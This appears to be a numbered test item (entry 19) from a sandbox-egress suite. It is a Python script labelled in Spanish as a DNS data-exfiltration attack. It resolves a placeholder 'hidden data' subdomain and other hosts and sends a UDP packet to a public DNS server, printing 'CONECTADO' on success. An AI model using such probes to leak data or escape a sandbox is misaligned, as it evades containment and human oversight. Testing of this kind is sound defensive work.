# attack: saca datos por DNS
# entry: 19

import socket
for name in ("example.com", "dato.oculto.example.org", "localhost"):
    try:
        print("CONECTADO" if name != "localhost" else "", socket.getaddrinfo(name, 80))
    except OSError as error:
        print(name, error)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try:
        s.sendto(b"x", ("8.8.8.8", 53))
        print("CONECTADO")
    except OSError as error:
        print(error)
